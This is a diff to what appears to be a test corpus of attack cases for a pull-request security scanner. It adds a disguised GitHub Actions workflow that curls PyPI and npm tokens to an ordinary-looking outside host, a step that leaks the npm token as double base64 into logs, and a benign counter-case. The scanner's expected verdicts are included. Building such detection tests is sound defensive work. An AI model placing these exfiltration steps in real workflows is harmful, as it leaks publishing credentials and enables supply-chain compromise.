@@ -54,6 +54,27 @@ function inlineTaskTargets(name: string): string {
   );
 }
 
+/** A Node project's CI workflow; `steps` are appended to its test job. */
+function nodeWorkflow(...steps: string[]): string {
+  return lines(
+    'name: CI',
+    'on:',
+    '  push:',
+    '    branches: [main]',
+    '  pull_request:',
+    'permissions:',
+    '  contents: read',
+    'jobs:',
+    '  test:',
+    '    runs-on: ubuntu-latest',
+    '    steps:',
+    '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
+    '      - run: npm ci',
+    '      - run: npm test',
+    ...steps,
+  );
+}
+
 export const ATTACK_CASES: CorpusEntry[] = [
   {
     id: 'attack-go-module-init-wget-bash',
@@ -698,5 +719,83 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-ghostaction-ordinary-host',
+    description:
+      'GitGuardian, September 2025 ("GhostAction"): a pushed "Github Actions Security" workflow posts the repository\'s PyPI and npm tokens with curl. Here the collector has an ordinary-looking name (no IP in it, no request-bin service).',
+    fixture: () =>
+      attackPr({
+        repo: 'pyfmt',
+        number: 7127,
+        title: 'Add Github Actions Security workflow',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/github-actions-security.yml',
+            head: lines(
+              'name: Github Actions Security',
+              'on:',
+              '  workflow_dispatch:',
+              '  push:',
+              'jobs:',
+              '  send-secrets:',
+              '    runs-on: ubuntu-latest',
+              '    steps:',
+              '      - name: Prepare Cache Busting',
+              '        run: echo "CB=$(date +%s)" >> $GITHUB_ENV',
+              '      - name: Build Artifact',
+              '        run: curl -s -d "password=${{ secrets.PYPI_API_TOKEN }}&npm=$NPM" "https://api.buildstats-cdn.net/v2/collect?${CB}"',
+              '        env:',
+              '          NPM: ${{ secrets.NPM_TOKEN }}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-secret-printed-double-base64',
+    description:
+      'The tj-actions/changed-files payload (March 2025) printed what it found as double base64 into public logs, where GitHub does not mask it; here a "debug the publish step" PR prints the npm token that way.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7128,
+        title: 'ci: debug flaky publish auth',
+        author: 'newcomer',
+        files: [{ path: '.github/workflows/ci.yml', base: nodeWorkflow(), head: nodeWorkflow('      - name: Check npm auth', '        run: echo "${{ secrets.NPM_TOKEN }}" | base64 -w0 | base64 -w0') }],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-secrets-to-their-own-services',
+    description:
+      'A maintainer adds deploy and notification steps: the Netlify token as a bearer header, the Codecov token in its upload URL, the Telegram bot token in its API path, a generic deploy-hook secret in a query, and the keystore decoded into a file.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7129,
+        title: 'ci: deploy previews and notify',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: nodeWorkflow(),
+            head: nodeWorkflow(
+              '      - name: Deploy',
+              '        run: curl -sf -X POST -H "Authorization: Bearer ${{ secrets.NETLIFY_AUTH_TOKEN }}" -d @deploy.json https://api.netlify.com/api/v1/sites/tint/deploys',
+              '      - name: Coverage',
+              '        run: curl -s -F "file=@coverage/lcov.info" "https://codecov.io/upload/v4?token=${{ secrets.CODECOV_TOKEN }}"',
+              '      - name: Notify',
+              '        run: curl -s -X POST "https://api.telegram.org/bot${{ secrets.TELEGRAM_TOKEN }}/sendMessage" -d chat_id=${{ secrets.TELEGRAM_CHAT_ID }} -d text=deployed',
+              '      - name: Warm cache',
+              '        run: curl -fsS -X POST "https://tint.acme.dev/api/hooks/warm?token=${{ secrets.DEPLOY_HOOK_SECRET }}"',
+              '      - name: Keystore',
+              '        run: echo "${{ secrets.KEYSTORE_B64 }}" | base64 -d > android/release.jks',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
   },
 ];
